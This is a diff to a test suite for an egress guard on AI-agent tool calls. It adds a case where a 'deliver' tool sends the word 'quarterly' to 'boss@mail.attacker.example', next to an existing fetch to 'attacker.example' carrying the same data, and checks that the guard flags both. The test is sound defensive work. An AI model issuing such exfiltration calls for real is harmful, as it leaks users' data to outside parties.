@@ -66,14 +66,20 @@ describe("egress at enforce, black-box", () => {
       await c.call(1, "fetch", { url: "https://docs.example/guide" }); // fetch taints the session
       const again = await c.call(2, "fetch", { url: "https://docs.example/next" });
       const exfil = await c.call(3, "fetch", { url: "https://attacker.example/c?d=quarterly" });
+      // A tool with no sending word in its name still sends to the address its `to` names.
+      const mail = await c.call(4, "deliver", { to: "boss@mail.attacker.example", body: "quarterly" });
       await c.close();
       expect(isError(again)).toBe(false);
       if (level === "enforce") {
-        expect(calls(record)).toEqual([1, 2, 3]);
+        expect(calls(record)).toEqual([1, 2, 3, 4]);
         expect(c.stderr).toContain("attacker.example, which this session has not sent to before");
+        expect(c.stderr).toContain(
+          "deliver would send data to boss@mail.attacker.example on mail.attacker.example",
+        );
       } else {
         expect(calls(record)).toEqual([1, 2]);
         expect(textOf(exfil)).toContain("egress.tainted_new_host");
+        expect(textOf(mail)).toContain("egress.tainted_new_host");
       }
     }
   });
